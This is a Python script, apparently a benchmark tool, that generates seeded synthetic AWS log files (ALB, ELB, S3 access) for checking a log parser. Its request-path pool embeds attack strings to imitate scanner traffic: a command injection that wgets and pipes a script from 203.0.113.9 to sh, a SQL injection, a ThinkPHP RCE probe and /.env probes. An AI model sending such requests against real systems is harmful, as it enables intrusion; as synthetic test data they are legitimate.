"""Seeded generator of realistic AWS log files, any size, in AWS's own file naming and key layout.

    .venv/bin/python bench/generate.py --events 1000000 --cloudtrail-events 300000 --out bench/data

Formats are awsir table ids: alb, elb_classic, s3_access, vpc_flow, cloudfront, cloudtrail, waf,
route53_resolver. Field names and their order come from awsir's format definitions
(``src/awsir/sources/<id>/parse.yaml``, loaded with :func:`awsir.catalog.load_catalog`): this file
only says which *values* each field takes, by name, and fails loudly when a definition gains or
loses a field. Random choices are drawn with numpy in bulk; lines are assembled per column, so a
million events take a few seconds per format.

Files are compressed as AWS delivers them: gzip for ALB, VPC flow, CloudFront, CloudTrail, WAF and
Resolver query logs; S3 server access logs and Classic ELB logs are delivered uncompressed
(``--gzip-all`` compresses them too, adding ``.gz``). Timestamps are in order within a file;
each file covers its own delivery window (5 minutes, 1 hour for CloudFront). Values: IPv4 and some
IPv6 clients, real-looking user agents, URLs with query strings, status codes (with errors: 4xx/5xx,
-1 timings, AccessDenied...), ARNs, canonical ids, request ids.

``OUT/manifest.json`` records, per format: files, events, raw (uncompressed) and stored bytes, and
for every AWS field the number of records holding a value (not ``-``, not absent, not JSON null),
so a parser's output can be checked column by column.
"""

from __future__ import annotations

import argparse
import datetime as dt
import gzip
import ipaddress
import json
import os
import sys
import time
import urllib.parse
from collections.abc import Callable
from concurrent.futures import ProcessPoolExecutor
from functools import cache
from pathlib import Path

import numpy as np

GENERATOR_VERSION = 2
ACCOUNT = "123456789012"
OTHER_ACCOUNTS = ["210987654321", "111122223333", "444455556666"]
REGION = "us-east-1"
START = int(dt.datetime(2025, 3, 10, tzinfo=dt.UTC).timestamp())

# format id -> (awsir source id, events per file, window seconds per file, compressed as AWS does)
FORMATS: dict[str, tuple[str, int, int, bool]] = {
    "alb": ("alb", 25_000, 300, True),
    "elb_classic": ("elb_classic", 25_000, 300, False),
    "s3_access": ("s3_access", 5_000, 300, False),
    "vpc_flow": ("vpc_flow", 100_000, 300, True),
    "cloudfront": ("cloudfront_standard", 20_000, 3600, True),
    "cloudtrail": ("cloudtrail_trail", 3_000, 300, True),
    "waf": ("waf", 20_000, 300, True),
    "route53_resolver": ("route53_resolver_query", 50_000, 300, True),
}
CLOUDFRONT_LAST_LEGACY = "sc-range-end"  # standard logging (legacy) writes fields up to this one
NULL_TOKENS = ("-", '"-"')


# --------------------------------------------------------------------------------------------
# Field definitions (declared once, in awsir) and vector helpers
# --------------------------------------------------------------------------------------------


@cache
def field_names(fmt: str) -> tuple[str, ...]:
    """AWS field names of ``fmt`` in AWS order, as awsir defines them."""
    from awsir.catalog import load_catalog

    source_id = FORMATS[fmt][0]
    source = load_catalog().sources[source_id]
    assert source.parse is not None, f"{source_id} has no parse.yaml"
    table = source.parse.tables[fmt]
    names = [f.name for f in table.fields]
    if fmt == "vpc_flow":
        return tuple(table.default_order)  # v2 default format, the header S3 files start with
    if fmt == "cloudfront":
        return tuple(names[: names.index(CLOUDFRONT_LAST_LEGACY) + 1])
    return tuple(names)


@cache
def field_types(fmt: str) -> dict[str, str]:
    from awsir.catalog import load_catalog

    table = load_catalog().sources[FORMATS[fmt][0]].parse.tables[fmt]
    return {f.name: str(f.type) for f in table.fields}


def int_sums(fmt: str, columns: dict[str, list]) -> dict[str, int]:
    """Sum of the values of every int (and ip_port port) field: checks typed conversion."""
    sums = {}
    for name, kind in field_types(fmt).items():
        if name not in columns or kind not in ("int", "ip_port"):
            continue
        values = [v.strip('"') for v in columns[name] if v is not None and v not in ("null", *NULL_TOKENS)]
        if kind == "ip_port":
            values = [v.rsplit(":", 1)[1] for v in values]
        sums[name] = sum(map(int, values))
    return sums


HEX = np.array(list("0123456789abcdef"))
HEX_UP = np.array(list("0123456789ABCDEF"))
ALNUM = np.array(list("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"))
B64 = np.array(list("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"))
B64URL = np.array(list("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-"))
HEXIFY = str.maketrans("GHIJKLMNOPQRSTUVWXYZ", "0123456789ABCDEF0123")  # S3's unique string is hex
MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]


def rand_str(rng: np.random.Generator, n: int, length: int, alphabet: np.ndarray = HEX) -> list[str]:
    """``n`` random strings of ``length`` characters drawn from ``alphabet``."""
    chars = alphabet[rng.integers(0, len(alphabet), size=(n, length))]
    return np.ascontiguousarray(chars).view(f"<U{length}").ravel().tolist()


def pick(rng: np.random.Generator, n: int, values: list, weights: list[float] | None = None) -> list:
    """``n`` values drawn from ``values`` (with relative ``weights``)."""
    p = None
    if weights is not None:
        w = np.asarray(weights, dtype=float)
        p = w / w.sum()
    idx = rng.choice(len(values), size=n, p=p)
    return [values[i] for i in idx.tolist()]


def zipf_pick(rng: np.random.Generator, n: int, values: list, a: float = 1.2) -> list:
    """Heavy-tailed choice: a few values (busy clients) appear very often."""
    ranks = np.arange(1, len(values) + 1, dtype=float)
    p = ranks**-a
    idx = rng.choice(len(values), size=n, p=p / p.sum())
    return [values[i] for i in idx.tolist()]


def ints(rng: np.random.Generator, n: int, low: int, high: int) -> list[str]:
    return rng.integers(low, high, n).astype(str).tolist()


def lognormal_ints(rng: np.random.Generator, n: int, median: float, sigma: float) -> np.ndarray:
    return np.maximum(1, rng.lognormal(np.log(median), sigma, n)).astype(np.int64)


def sorted_times(rng: np.random.Generator, n: int, t0: int, window: int) -> np.ndarray:
    """Sorted event times (microseconds since the epoch) inside one delivery window."""
    return np.sort(rng.integers(t0 * 1_000_000, (t0 + window) * 1_000_000, n))


def iso(us: np.ndarray, unit: str = "us") -> list[str]:
    """ISO 8601 UTC strings (``2025-03-10T00:00:01.123456Z``) of microsecond timestamps."""
    text = np.datetime_as_string(us.astype("datetime64[us]"), unit=unit)
    return [s + "Z" for s in text.tolist()]


def secs(values: np.ndarray, digits: int = 3) -> list[str]:
    fmt = f"{{:.{digits}f}}"
    return [fmt.format(v) for v in values.tolist()]


def nonnull_text(columns: dict[str, list[str]]) -> dict[str, int]:
    return {k: len(v) - sum(v.count(t) for t in NULL_TOKENS) for k, v in columns.items()}


def quoted(values: list[str]) -> list[str]:
    return ['"' + v + '"' for v in values]


# --------------------------------------------------------------------------------------------
# Pools of realistic values (deterministic from the seed)
# --------------------------------------------------------------------------------------------

USER_AGENTS = [
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Safari/537.36",  # noqa: E501
        30,
    ),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.3 Safari/605.1.15",  # noqa: E501
        12,
    ),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.3 Mobile/15E148 Safari/604.1",  # noqa: E501
        12,
    ),
    (
        "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.6943.49 Mobile Safari/537.36",  # noqa: E501
        8,
    ),
    ("Mozilla/5.0 (X11; Linux x86_64; rv:135.0) Gecko/20100101 Firefox/135.0", 5),
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Safari/537.36 Edg/133.0.0.0",  # noqa: E501
        5,
    ),
    ("okhttp/4.12.0", 4),
    ("curl/8.5.0", 3),
    ("python-requests/2.32.3", 3),
    ("Go-http-client/1.1", 2),
    (
        "aws-sdk-java/2.25.60 Linux/6.1.119-129.201.amzn2023.x86_64 OpenJDK_64-Bit_Server_VM/17.0.13+11-LTS Java/17.0.13 vendor/Amazon.com_Inc. io/sync http/Apache cfg/retry-mode/legacy",  # noqa: E501
        2,
    ),
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", 2),
    ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", 1),
    ("ELB-HealthChecker/2.0", 3),
    ("Amazon CloudFront", 1),
    ("Mozilla/5.0 zgrab/0.x", 0.3),
    ("sqlmap/1.8.2#stable (https://sqlmap.org)", 0.1),
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36 Nuclei",  # noqa: E501
        0.1,
    ),
    ("-", 0.5),
]
AWS_AGENTS = [
    (
        "aws-cli/2.24.10 md/awscrt#0.23.8 ua/2.1 os/linux#6.1.127-135.201.amzn2023.x86_64 md/arch#x86_64 lang/python#3.12.9 md/pyimpl#CPython m/Z cfg/retry-mode#standard md/installer#exe md/distrib#amzn.2023 md/prompt#off md/command#s3.ls",  # noqa: E501
        10,
    ),
    (
        "Boto3/1.36.22 md/Botocore#1.36.22 ua/2.0 os/linux#5.10.233-224.894.amzn2.x86_64 md/arch#x86_64 lang/python#3.11.11 md/pyimpl#CPython exec-env/AWS_Lambda_python3.11 cfg/retry-mode#legacy Botocore/1.36.22",  # noqa: E501
        12,
    ),
    (
        "aws-sdk-go-v2/1.36.1 ua/2.1 os/linux lang/go#1.23.6 md/GOOS#linux md/GOARCH#amd64 api/ec2#1.203.0",
        6,
    ),
    (
        "aws-sdk-java/2.30.21 Linux/5.10.233-224.894.amzn2.x86_64 OpenJDK_64-Bit_Server_VM/21.0.6+7-LTS Java/21.0.6 vendor/Amazon.com_Inc. md/internal io/sync http/Apache cfg/retry-mode/adaptive",  # noqa: E501
        5,
    ),
    ("aws-sdk-js/3.750.0 ua/2.1 os/linux#5.10.233 lang/js md/nodejs#20.18.2 api/s3#3.750.0", 4),
    ("AWS Internal", 6),
    ("console.amazonaws.com", 4),
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Safari/537.36",  # noqa: E501
        3,
    ),
    (
        "Terraform/1.10.5 (+https://www.terraform.io) terraform-provider-aws/5.87.0 (+https://registry.terraform.io/providers/hashicorp/aws) aws-sdk-go-v2/1.36.1 ua/2.1 os/linux lang/go#1.23.6",  # noqa: E501
        3,
    ),
    (
        "S3Console/0.4, aws-internal/3 aws-sdk-java/1.12.780 Linux/5.10.233-202.900.amzn2int.x86_64",
        2,
    ),
    ("python-requests/2.32.3", 0.5),
]
HOSTS = [
    "www.example.com",
    "api.example.com",
    "app.example.com",
    "shop.example.com",
    "auth.example.com",
]
WORDS = [
    "red+shoes",
    "laptop",
    "gift+card",
    "coffee",
    "usb-c+cable",
    "headphones",
    "desk+lamp",
    "%E2%9C%93",
    "caf%C3%A9",
]
PATHS = [  # (template, weight): {id} number, {n} page, {h} hex, {w} search word
    ("/", 12),
    ("/index.html", 3),
    ("/api/v1/orders?page={n}&size=50", 10),
    ("/api/v1/orders/{id}", 10),
    ("/api/v1/users/{id}/profile", 5),
    ("/api/v2/cart/items?session={h}&currency=EUR", 4),
    ("/login?next=%2Fdashboard%3Ftab%3Dbilling", 3),
    ("/search?q={w}&sort=price_asc&page={n}", 5),
    ("/static/js/main.{h}.js", 8),
    ("/static/css/site.{h}.css", 5),
    ("/images/products/{id}.jpg", 8),
    ("/products/{id}?utm_source=newsletter&utm_medium=email&utm_campaign=spring_2025", 3),
    ("/health", 4),
    ("/favicon.ico", 2),
    ("/robots.txt", 1),
    ("/wp-login.php", 0.4),
    ("/.env", 0.3),
    ("/.git/config", 0.2),
    ("/admin/config.php?cmd=id", 0.1),
    (
        "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+-O-+http://203.0.113.9/x.sh%7Csh%60)",
        0.05,
    ),
    ("/api/v1/search?q=%27%20OR%201%3D1--%20", 0.1),
    (
        "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=Hello",
        0.05,
    ),
]
METHODS = (
    ["GET", "POST", "PUT", "DELETE", "HEAD", "OPTIONS", "PATCH"],
    [75, 14, 3, 1.5, 3, 2.5, 1],
)
TLS12 = [
    "ECDHE-RSA-AES128-GCM-SHA256",
    "ECDHE-RSA-AES256-GCM-SHA384",
    "ECDHE-ECDSA-AES128-GCM-SHA256",
]
TLS13 = ["TLS_AES_128_GCM_SHA256", "TLS_AES_256_GCM_SHA384", "TLS_CHACHA20_POLY1305_SHA256"]
COUNTRIES = [
    "US",
    "DE",
    "GB",
    "FR",
    "IN",
    "BR",
    "JP",
    "NL",
    "CA",
    "SG",
    "AU",
    "CN",
    "RU",
    "VN",
    "KR",
]
EDGES = [
    "IAD89-C1",
    "IAD12-P3",
    "DFW56-P1",
    "SEA19-C1",
    "LAX50-P2",
    "FRA56-P4",
    "AMS1-C1",
    "LHR61-P5",
    "CDG52-P3",
    "NRT57-P2",
    "SIN2-P1",
    "GRU3-C1",
    "BOM78-P4",
    "SYD62-P1",
]


@cache
def pools(seed: int) -> dict[str, list[str]]:
    """Client and service address pools, the same in every worker for a seed."""
    rng = np.random.default_rng([seed, 7])
    first = rng.choice([o for o in range(1, 224) if o not in (10, 100, 127, 169, 172, 192, 198, 203)], 6000)
    v4 = [
        f"{a}.{b}.{c}.{d}"
        for a, b, c, d in rows(
            first.tolist(),
            *(rng.integers(0, 256, 6000).tolist() for _ in range(2)),
            rng.integers(1, 255, 6000).tolist(),
        )
    ]
    v4 += [
        "192.0.2.45",
        "198.51.100.23",
        "203.0.113.77",
        "203.0.113.9",
    ]  # a few documentation addresses
    prefixes = ["2a02:c7c:", "2600:1700:", "2406:da18:", "2001:db8:", "2a01:4f8:", "2603:3024:"]
    v6 = []
    for i in range(800):
        groups = rng.integers(0, 65536, 6).tolist()
        if i % 3 == 0:
            groups[1:4] = [0, 0, 0]  # compressible addresses: 2001:db8:1a2b::17
        text = prefixes[i % len(prefixes)] + ":".join(f"{g:x}" for g in groups)
        v6.append(str(ipaddress.IPv6Address(text)))
    private = [f"10.0.{c}.{d}" for c, d in rows(rng.integers(0, 8, 600).tolist(), rng.integers(2, 255, 600).tolist())]
    targets = [f"10.0.{c}.{d}" for c, d in rows(rng.integers(1, 4, 24).tolist(), rng.integers(10, 250, 24).tolist())]
    v6_private = [
        str(ipaddress.IPv6Address(f"2600:1f18:4a3:6a00:{a:x}:{b:x}:{c:x}:{d:x}"))
        for a, b, c, d in rng.integers(0, 65536, (120, 4)).tolist()
    ]
    rng.shuffle(v4)
    rng.shuffle(v6)
    return {"v4": v4, "v6": v6, "private": private, "targets": targets, "v6_private": v6_private}


def client_ips(rng: np.random.Generator, n: int, seed: int, v6_share: float = 0.06) -> list[str]:
    p = pools(seed)
    v4 = zipf_pick(rng, n, p["v4"], 1.05)
    v6 = zipf_pick(rng, n, p["v6"], 1.05)
    use6 = (rng.random(n) < v6_share).tolist()
    return [b if u else a for a, b, u in rows(v4, v6, use6)]


def paths(rng: np.random.Generator, n: int) -> list[str]:
    templates = pick(rng, n, [t for t, _ in PATHS], [w for _, w in PATHS])
    ids = rng.integers(1, 999_999, n).tolist()
    pages = rng.integers(1, 40, n).tolist()
    hexes = rand_str(rng, n, 8)
    words = pick(rng, n, WORDS)
    return [
        t.format(id=i, n=p, h=h, w=w) if "{" in t else t for t, i, p, h, w in rows(templates, ids, pages, hexes, words)
    ]


def user_agents(rng: np.random.Generator, n: int, table: list[tuple[str, float]] = USER_AGENTS) -> list[str]:
    return pick(rng, n, [u for u, _ in table], [w for _, w in table])


def rows(*columns: list) -> zip:
    """Row tuples of equal-length columns."""
    return zip(*columns, strict=True)


def choose(cond: list[bool], yes: list[str], no: list[str] | str) -> list[str]:
    if isinstance(no, str):
        return [y if c else no for c, y in rows(cond, yes)]
    return [y if c else m for c, y, m in rows(cond, yes, no)]


# --------------------------------------------------------------------------------------------
# One generator per format: columns by AWS field name for n events starting at t0
# --------------------------------------------------------------------------------------------


def alb(rng: np.random.Generator, n: int, t0: int, ctx: dict) -> dict[str, list[str]]:
    us = sorted_times(rng, n, t0, ctx["window"])
    kind = pick(rng, n, ["https", "h2", "http", "wss", "grpcs"], [55, 30, 12, 1, 2])
    # what happened to the request: forwarded, redirected, fixed response, blocked by WAF, errors
    fate = pick(
        rng,
        n,
        [
            "fwd",
            "redirect",
            "fixed",
            "waf",
            "no_target",
            "target_err",
            "lambda_err",
            "auth_err",
            "closed",
        ],
        [90, 4, 1, 1.5, 0.5, 1.2, 0.3, 0.5, 1],
    )
    fate = [
        ("redirect" if k == "http" and f == "fwd" and r < 0.5 else f)
        for k, f, r in rows(kind, fate, rng.random(n).tolist())
    ]
    fwd = [f in ("fwd", "target_err", "closed") for f in fate]
    clients = client_ips(rng, n, ctx["seed"])
    client = [f"{ip}:{p}" for ip, p in rows(clients, ints(rng, n, 1024, 65536))]
    target_ips = pick(rng, n, pools(ctx["seed"])["targets"])
    tport = pick(rng, n, ["80", "8080", "443"], [6, 3, 1])
    target_addr = [f"{a}:{b}" for a, b in rows(target_ips, tport)]
    req_t = rng.exponential(0.0004, n)
    tgt_t = rng.lognormal(np.log(0.025), 1.2, n)
    rsp_t = rng.exponential(0.0003, n)
    ok_status = pick(
        rng,
        n,
        [
            "200",
            "201",
            "204",
            "206",
            "301",
            "302",
            "304",
            "400",
            "401",
            "403",
            "404",
            "405",
            "409",
            "422",
            "429",
            "500",
        ],
        [70, 2, 2, 1, 1, 2, 8, 1.5, 2, 1, 5, 0.2, 0.3, 0.5, 0.5, 0.5],
    )
    elb_status, target_status = [], []
    for f, s, r in rows(fate, ok_status, rng.random(n).tolist()):
        if f == "fwd":
            elb_status.append(s)
            target_status.append(s)
        elif f == "redirect":
            elb_status.append("301")
            target_status.append("-")
        elif f == "fixed":
            elb_status.append("404" if r < 0.7 else "503")
            target_status.append("-")
        elif f == "waf":
            elb_status.append("403")
            target_status.append("-")
        elif f == "no_target":
            elb_status.append("503")
            target_status.append("-")
        elif f == "target_err":
            elb_status.append("502" if r < 0.6 else "504")
            target_status.append("-")
        elif f == "lambda_err":
            elb_status.append("502")
            target_status.append("-")
        elif f == "auth_err":
            elb_status.append("401" if r < 0.8 else "500")
            target_status.append("-")
        else:  # client closed the connection before the response
            elb_status.append("460")
            target_status.append("-")
    req_s, tgt_s, rsp_s = secs(req_t), secs(tgt_t), secs(rsp_t)
    minus = "-1"
    req_s = [r if f in ("fwd", "target_err", "closed", "lambda_err") else minus for r, f in rows(req_s, fate)]
    tgt_s = [t if f in ("fwd", "lambda_err") else (minus if f != "closed" else "-1") for t, f in rows(tgt_s, fate)]
    rsp_s = [r if f in ("fwd", "lambda_err") else minus for r, f in rows(rsp_s, fate)]
    method = pick(rng, n, *METHODS)
    host = pick(rng, n, HOSTS, [40, 30, 15, 10, 5])
    path = paths(rng, n)
    scheme = ["http" if k == "http" else ("wss" if k == "wss" else "https") for k in kind]
    port = ["80" if k == "http" else "443" for k in kind]
    version = ["HTTP/2.0" if k in ("h2", "grpcs") else "HTTP/1.1" for k in kind]
    request = [f'"{m} {s}://{h}:{p}{u} {v}"' for m, s, h, p, u, v in rows(method, scheme, host, port, path, version)]
    tls = [k != "http" for k in kind]
    v13 = (rng.random(n) < 0.55).tolist()
    cipher = [
        (c13 if t13 else c12) if t else "-"
        for t, t13, c13, c12 in rows(tls, v13, pick(rng, n, TLS13), pick(rng, n, TLS12, [8, 1, 1]))
    ]
    proto = [("TLSv1.3" if t13 else "TLSv1.2") if t else "-" for t, t13 in rows(tls, v13)]
    tg = [
        f"arn:aws:elasticloadbalancing:{REGION}:{ACCOUNT}:targetgroup/{g}"
        for g in pick(
            rng,
            n,
            [
                "web-targets/73e2d6bc24d8a067",
                "api-targets/4adf8897d8a3b7af",
                "lambda-auth/15c4e1b8a3d2f7e6",
            ],
            [6, 3, 1],
        )
    ]
    tg = [t if f not in ("redirect", "fixed", "waf") else "-" for t, f in rows(tg, fate)]
    epoch_hex = [f"{s:08x}" for s in (us // 1_000_000).tolist()]
    trace = [f'"Root=1-{e}-{r}"' for e, r in rows(epoch_hex, rand_str(rng, n, 24))]
    domain = [f'"{h}"' if t else '"-"' for h, t in rows(host, tls)]
    reused = (rng.random(n) < 0.3).tolist()
    cert = [
        (
            '"session-reused"'
            if r
            else f'"arn:aws:acm:{REGION}:{ACCOUNT}:certificate/3f6a1c2e-8b7d-4e5f-9a0b-1c2d3e4f5a6b"'
        )
        if t
        else '"-"'
        for t, r in rows(tls, reused)
    ]
    priority = [
        ("0" if f in ("no_target",) else p)
        for f, p in rows(fate, pick(rng, n, ["0", "1", "2", "5", "10", "20", "100"], [30, 20, 15, 10, 10, 10, 5]))
    ]
    created_us = us - ((req_t + np.where(np.array(fwd), tgt_t, 0) + rsp_t) * 1_000_000).astype(np.int64)
    created = iso(created_us)
    actions = [
        {
            "fwd": '"waf,forward"' if r < 0.4 else ('"authenticate,forward"' if r > 0.95 else '"forward"'),
            "redirect": '"redirect"',
            "fixed": '"fixed-response"',
            "waf": '"waf"',
            "no_target": '"forward"',
            "target_err": '"forward"',
            "lambda_err": '"forward"',
            "auth_err": '"authenticate"',
            "closed": '"forward"',
        }[f]
        for f, r in rows(fate, rng.random(n).tolist())
    ]
    redirect = [f'"https://{h}:443{u}"' if f == "redirect" else '"-"' for f, h, u in rows(fate, host, path)]
    err_pick = pick(rng, n, ["LambdaInvalidResponse", "LambdaUnhandled", "LambdaThrottling"], [5, 3, 1])
    auth_pick = pick(rng, n, ["AuthInvalidCookie", "AuthInvalidIdToken", "AuthTokenEpRequestTimeout"], [5, 2, 1])
    error = [
        f'"{e}"' if f == "lambda_err" else (f'"{a}"' if f == "auth_err" else '"-"')
        for f, e, a in rows(fate, err_pick, auth_pick)
    ]
    tlist = [f'"{a}"' if f in ("fwd", "target_err") else '"-"' for a, f in rows(target_addr, fate)]
    tslist = [f'"{s}"' if f == "fwd" else '"-"' for s, f in rows(target_status, fate)]
    odd = (rng.random(n) < 0.002).tolist()
    classification = ['"Ambiguous"' if o else '"-"' for o in odd]
    reason = ['"UndefinedContentLengthSemantics"' if o else '"-"' for o in odd]
    return {
        "type": kind,
        "time": iso(us),
        "elb": [ctx["lb"]] * n,
        "client:port": client,
        "target:port": choose([f in ("fwd", "target_err", "closed") for f in fate], target_addr, "-"),
        "request_processing_time": req_s,
        "target_processing_time": tgt_s,
        "response_processing_time": rsp_s,
        "elb_status_code": elb_status,
        "target_status_code": target_status,
        "received_bytes": lognormal_ints(rng, n, 420, 0.8).astype(str).tolist(),
        "sent_bytes": lognormal_ints(rng, n, 3200, 1.6).astype(str).tolist(),
        "request": request,
        "user_agent": quoted(user_agents(rng, n)),
        "ssl_cipher": cipher,
        "ssl_protocol": proto,
        "target_group_arn": tg,
        "trace_id": trace,
        "domain_name": domain,
        "chosen_cert_arn": cert,
        "matched_rule_priority": priority,
        "request_creation_time": created,
        "actions_executed": actions,
        "redirect_url": redirect,
        "error_reason": error,
        "target:port_list": tlist,
        "target_status_code_list": tslist,
        "classification": classification,
        "classification_reason": reason,
        "conn_trace_id": ["TID_" + h for h in rand_str(rng, n, 32)],
        "transformed_host": ['"-"'] * n,
        "transformed_uri": ['"-"'] * n,
        "request_transform_status": ['"-"'] * n,
    }


def elb_classic(rng: np.random.Generator, n: int, t0: int, ctx: dict) -> dict[str, list[str]]:
    us = sorted_times(rng, n, t0, ctx["window"])
    listener = pick(rng, n, ["http", "https", "tcp"], [45, 50, 5])
    fate = pick(rng, n, ["ok", "no_backend", "timeout"], [98, 1.2, 0.8])
    clients = client_ips(rng, n, ctx["seed"], 0.04)
    backends = [f"{a}:80" for a in pick(rng, n, pools(ctx["seed"])["targets"])]
    status = pick(rng, n, ["200", "204", "301", "304", "400", "403", "404", "500"], [78, 2, 2, 8, 1, 2, 6, 1])
    tcp = [x == "tcp" for x in listener]
    elb_st = [
        "-" if t else ("503" if f == "no_backend" else ("504" if f == "timeout" else s))
        for t, f, s in rows(tcp, fate, status)
    ]
    be_st = ["-" if t else ("0" if f != "ok" else s) for t, f, s in rows(tcp, fate, status)]
    method = pick(rng, n, *METHODS)
    host = pick(rng, n, HOSTS)
    path = paths(rng, n)
    request = [
        '"- - - "'
        if t
        else f'"{m} {"https" if x == "https" else "http"}://{h}:{443 if x == "https" else 80}{u} HTTP/1.1"'
        for t, m, x, h, u in rows(tcp, method, listener, host, path)
    ]
    ok = [f == "ok" for f in fate]
    return {
        "timestamp": iso(us),
        "elb": [ctx["lb"]] * n,
        "client:port": [f"{a}:{p}" for a, p in rows(clients, ints(rng, n, 1024, 65536))],
        "backend:port": choose(ok, backends, "-"),
        "request_processing_time": choose(ok, secs(rng.exponential(0.00005, n), 6), "-1"),
        "backend_processing_time": choose(ok, secs(rng.lognormal(np.log(0.02), 1.1, n), 6), "-1"),
        "response_processing_time": choose(ok, secs(rng.exponential(0.00004, n), 6), "-1"),
        "elb_status_code": elb_st,
        "backend_status_code": be_st,
        "received_bytes": choose(ok, lognormal_ints(rng, n, 60, 2).astype(str).tolist(), "0"),
        "sent_bytes": choose(ok, lognormal_ints(rng, n, 2900, 1.5).astype(str).tolist(), "0"),
        "request": request,
        "user_agent": ['"-"' if t else f'"{u}"' for t, u in rows(tcp, user_agents(rng, n))],
        "ssl_cipher": [c if x == "https" else "-" for x, c in rows(listener, pick(rng, n, TLS12))],
        "ssl_protocol": ["TLSv1.2" if x == "https" else "-" for x in listener],
    }


S3_OPS = [  # operation, method, weight, has key, body
    ("REST.GET.OBJECT", "GET", 45, True),
    ("REST.PUT.OBJECT", "PUT", 12, True),
    ("REST.HEAD.OBJECT", "HEAD", 15, True),
    ("REST.GET.BUCKET", "GET", 8, False),
    ("REST.DELETE.OBJECT", "DELETE", 2, True),
    ("REST.COPY.OBJECT", "PUT", 1, True),
    ("REST.POST.UPLOADS", "POST", 1, True),
    ("REST.PUT.PART", "PUT", 3, True),
    ("REST.GET.ACL", "GET", 1, True),
    ("REST.GET.BUCKETPOLICY", "GET", 0.5, False),
    ("REST.GET.VERSIONING", "GET", 0.5, False),
    ("REST.GET.LOCATION", "GET", 1, False),
    ("BATCH.DELETE.OBJECT", "POST", 1, True),
    ("S3.EXPIRE.OBJECT", "-", 2, True),
    ("REST.GET.OBJECT_TAGGING", "GET", 1, True),
    ("REST.PUT.BUCKETPOLICY", "PUT", 0.05, False),
]
S3_KEYS = [
    "exports/customers-{n}.csv.gz",
    "images/2025/03/IMG_{id}.jpg",
    "logs/app/2025/03/10/app-{h}.log.gz",
    "backups/db/rds-snapshot-{id}.sql.gz",
    "reports/q1%20summary%20{n}.pdf",
    "static/js/main.{h}.js",
    "uploads/user-{id}/avatar.png",
    "data/part-{n}-{h}.parquet",
    "tmp/%E6%97%A5%E6%9C%AC-{id}.txt",
]


def s3_access(rng: np.random.Generator, n: int, t0: int, ctx: dict) -> dict[str, list[str]]:
    us = sorted_times(rng, n, t0, ctx["window"])
    text = np.datetime_as_string(us.astype("datetime64[us]").astype("datetime64[s]"), unit="s").tolist()
    when = [f"[{s[8:10]}/{MONTHS[int(s[5:7]) - 1]}/{s[:4]}:{s[11:19]} +0000]" for s in text]
    ops = pick(rng, n, S3_OPS, [w for *_, w, _ in S3_OPS])
    op = [o[0] for o in ops]
    lifecycle = [o[0].startswith("S3.") for o in ops]
    requester = pick(
        rng,
        n,
        [
            f"arn:aws:sts::{ACCOUNT}:assumed-role/app-backend-role/i-0a1b2c3d4e5f60718",
            f"arn:aws:iam::{ACCOUNT}:user/deploy-bot",
            f"arn:aws:sts::{ACCOUNT}:assumed-role/AWSReservedSSO_AdministratorAccess_5b2f3e1a9c8d7e6f/alice@example.com",
            "79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be",
            f"arn:aws:sts::{OTHER_ACCOUNTS[0]}:assumed-role/partner-sync/sync-session",
            "svc:logging.s3.amazonaws.com",
            "-",
        ],
        [40, 10, 5, 5, 3, 2, 8],
    )
    requester = ["-" if lc else r for lc, r in rows(lifecycle, requester)]
    keys = [
        t.format(id=i, n=m, h=h)
        for t, i, m, h in rows(
            pick(rng, n, S3_KEYS),
            rng.integers(1000, 99999, n).tolist(),
            rng.integers(1, 400, n).tolist(),
            rand_str(rng, n, 8),
        )
    ]
    keys = [k if o[3] else "-" for k, o in rows(keys, ops)]
    query = pick(
        rng,
        n,
        [
            "",
            "",
            "",
            "?versionId=3HL4kqtJlcpXroDTDmJ.rmSpXd3dIbrHY",
            "?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=ASIAIOSFODNN7EXAMPLE%2F20250310%2Fus-east-1%2Fs3%2Faws4_request&X-Amz-Date=20250310T000512Z&X-Amz-Expires=3600&X-Amz-SignedHeaders=host&X-Amz-Signature="
            + "0" * 64,
            "?uploadId=VXBsb2FkIElEIGZvciA2aWWpbmcncyBteS1tb3ZpZS5tMnRzIHVwbG9hZA&partNumber=3",
        ],
    )
    list_query = pick(
        rng,
        n,
        [
            "?list-type=2&prefix=exports%2F&delimiter=%2F&encoding-type=url",
            "?location",
            "?versioning",
            "?policy",
            "?acl",
        ],
    )
    bucket = ctx["bucket"]
    uri = []
    for o, k, q, lq in rows(ops, keys, query, list_query):
        if o[1] == "-":
            uri.append('"-"')
        elif o[3]:
            uri.append(f'"{o[1]} /{bucket}/{k}{q} HTTP/1.1"')
        else:
            uri.append(f'"{o[1]} /{bucket}{lq} HTTP/1.1"')
    status = pick(
        rng,
        n,
        ["200", "204", "206", "304", "403", "404", "500", "503"],
        [82, 2, 2, 4, 4, 5, 0.3, 0.7],
    )
